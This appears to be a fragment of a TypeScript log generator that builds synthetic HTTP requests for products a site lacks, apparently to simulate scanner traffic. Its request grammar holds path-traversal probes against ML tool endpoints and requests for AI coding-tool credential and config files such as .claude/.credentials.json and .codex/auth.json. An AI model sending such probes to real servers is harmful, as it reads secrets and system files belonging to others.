    GET /«file=«/|»«secret|up»«secret»|gradio_api/file=/«secret»|proxy=«url»|model-versions/get-artifact?path=«up»«secret»&name=«rnd»&version=«digit»|ajax-api/2.0/mlflow/«rnd»?path=«up»«secret»|get-artifact?path=«up»«secret»&run_uuid=«hex32»|static/js/«up»«up»«secret»|hub/«rnd»/%2e%2e/«secret»|tree/«up»«secret»|.claude/«settings.json|.credentials.json»|.cursor/mcp.json|.continue/config.json|.aider.conf.yml|mcp.json|.openai/«rnd»|.anthropic/«rnd».json|.codex/auth.json|.gemini/settings.json|.windsurf/mcp.json»`,
});

const SECTIONS = [
  ["gateway", 26],
  ["router", 24],
  ["enterprise", 26],
  ["software", 30],
] as const;

export interface ProductRequest {
  method: string;
  target: string;
}

/** A request for a product that the site most likely hasn't got. */
export function productRequest(rng: Random): ProductRequest {
  const line = RULES(rng, rng.weighted(SECTIONS));
  const blank = line.indexOf(" ");
  return { method: line.slice(0, blank), target: loggable(line.slice(blank + 1)) };
}

/** A log line can hold neither spaces nor quotes in its target; a fragment is never sent. */
function loggable(target: string): string {
  return target.replace(/[^\x21\x23-\x7e]/g, (c) => encodeURIComponent(c)).replaceAll("#", "%23");
}
